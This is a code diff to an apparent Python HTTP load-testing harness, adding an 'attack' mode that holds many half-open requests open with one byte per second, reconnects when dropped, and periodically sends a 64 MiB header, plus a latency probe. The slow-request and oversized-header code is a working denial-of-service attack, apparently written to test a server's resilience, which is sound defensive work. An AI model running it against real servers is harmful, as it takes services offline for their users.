@@ -84,11 +84,73 @@ async def watch(address: Address, viewers: int, seconds: float, ready: Path) -> 
     return [viewer.seen for viewer in all_of_them]
 
 
+class HalfOpen(asyncio.Protocol):
+    """One who begins a request and never ends it, a letter a second; cut off, they begin again."""
+
+    def __init__(self, address: Address) -> None:
+        self.address, self.loop = address, asyncio.get_running_loop()
+
+    async def dial(self) -> None:
+        while True:
+            try:
+                await self.loop.create_connection(lambda: self, self.address.host, self.address.port)
+                return
+            except OSError:
+                await asyncio.sleep(0.1)
+
+    def connection_made(self, transport: asyncio.BaseTransport) -> None:
+        self.transport = cast(asyncio.Transport, transport)
+        self.transport.write(f"GET {self.address.path} HTTP/1.1\r\nHost: x\r\nX: ".encode())
+
+    def connection_lost(self, error: Exception | None) -> None:
+        self.again = self.loop.create_task(self.dial())
+
+
+async def attack(address: Address, half_open: int, ready: Path) -> None:
+    """Half-open requests, and now and then a header of 64 MiB, until ended."""
+    slow = [HalfOpen(address) for _ in range(half_open)]
+    await asyncio.gather(*(one.dial() for one in slow))
+    ready.write_text("ready")
+    while True:
+        for one in slow:
+            one.transport.write(b"a")
+        await asyncio.gather(asyncio.sleep(1), _endless(address))
+
+
+async def _endless(address: Address) -> None:
+    try:
+        _, writer = await asyncio.open_connection(address.host, address.port)
+        writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX: ")
+        for _ in range(1024):
+            writer.write(b"a" * 65_536)
+            await writer.drain()
+        writer.close()
+    except OSError:
+        return
+
+
+async def ask(address: Address, seconds: float) -> list[float]:
+    """How long each of twenty requests a second took, each on a connection of its own."""
+    sent = f"GET {address.path} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
+    ends, took = time.perf_counter() + seconds, []
+    while (started := time.perf_counter()) < ends:
+        reader, writer = await asyncio.open_connection(address.host, address.port)
+        await _request(reader, writer, sent)
+        writer.close()
+        took.append(time.perf_counter() - started)
+        await asyncio.sleep(max(0.05 - took[-1], 0))
+    return took
+
+
 def main() -> None:
     what, host, port, path, count, seconds, out = sys.argv[1:8]
     address = Address(host, int(port), path)
     if what == "hammer":
         told: object = uvloop.run(hammer(address, int(count), float(seconds)))
+    elif what == "attack":
+        told = uvloop.run(attack(address, int(count), Path(out + ".ready")))
+    elif what == "ask":
+        told = uvloop.run(ask(address, float(seconds)))
     else:
         told = uvloop.run(watch(address, int(count), float(seconds), Path(out + ".ready")))
     Path(out).write_text(json.dumps(told))
